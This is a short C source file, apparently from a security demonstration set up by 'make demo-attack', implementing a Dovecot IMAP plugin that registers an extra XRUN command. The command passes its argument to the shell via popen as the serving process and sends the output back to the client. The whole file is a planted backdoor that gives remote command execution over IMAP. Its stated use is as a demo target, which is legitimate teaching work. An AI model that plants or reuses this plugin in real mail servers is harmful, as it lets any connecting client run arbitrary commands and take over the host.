/* The hole that `make demo-attack` plants: a plugin of dovecot's `imap` that adds one command to
 * the protocol. XRUN runs its argument by the shell, as the process that serves the user, and
 * answers with the output: what a fault in a parser gives an attacker in the end, without the luck.
 */
#include <stdbool.h>
#include <stdio.h>
#include <string.h>

/* The beginning of dovecot's own (2.3), whose headers are not needed for more. */
struct client;
struct client_command_context {
	struct client_command_context *previous, *next;
	struct client *client;
};

typedef bool command_function(struct client_command_context *command);

void command_register(const char *name, command_function *run, int flags);
bool client_read_string_args(struct client_command_context *command, unsigned int count, ...);
void client_send_line(struct client *client, const char *line);
void client_send_tagline(struct client_command_context *command, const char *line);
void planted_plugin_init(void *module);
void planted_plugin_deinit(void);

static bool run(struct client_command_context *command)
{
	const char *script;
	char line[4096] = "* ";
	if (!client_read_string_args(command, 1, &script)) {
		return false;
	}
	FILE *output = popen(script, "r");
	if (output == NULL) {
		client_send_tagline(command, "NO there is no shell");
		return true;
	}
	while (fgets(line + 2, sizeof(line) - 2, output) != NULL) {
		line[strcspn(line, "\r\n")] = '\0';
		client_send_line(command->client, line);
	}
	(void)pclose(output);
	client_send_tagline(command, "OK it has run");
	return true;
}

void planted_plugin_init(void *module)
{
	(void)module;
	command_register("XRUN", run, 0);
}

void planted_plugin_deinit(void)
{
}
